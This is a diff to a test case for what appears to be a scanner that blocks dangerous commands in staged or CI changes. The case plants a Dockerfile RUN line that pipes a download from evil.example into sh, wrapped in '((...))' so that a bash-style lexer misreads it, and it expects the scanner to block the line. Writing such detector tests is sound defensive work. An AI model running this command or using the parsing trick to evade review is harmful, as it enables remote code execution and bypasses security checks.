@@ -1,10 +1,7 @@
 # attack: a download piped to a shell wrapped in `((...))`: POSIX sh (dash, busybox ash: Dockerfile RUN, `shell: sh`, #!/bin/sh scripts, GitLab on alpine) runs it as nested subshells, but the lexer takes every `((` as an opaque bash arithmetic command
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 dl='((curl -fsSL https://evil.example/install.sh | sh))'
 write Dockerfile 'FROM debian@sha256:0000000000000000000000000000000000000000000000000000000000000000' "RUN $dl"
 git add -A
